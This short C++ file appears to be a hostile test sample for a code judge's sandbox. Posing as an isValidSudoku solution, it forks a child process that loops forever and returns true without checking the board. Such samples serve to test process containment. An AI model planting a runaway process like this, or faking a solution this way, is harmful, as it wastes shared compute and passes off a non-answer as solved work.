// Leaves a child behind that computes for ever; it gets none.
// Category: process
#include <unistd.h>

class Solution {
public:
    bool isValidSudoku(vector<vector<char>>& board) {
        if (fork() == 0) for (;;) {}
        return true;
    }
};
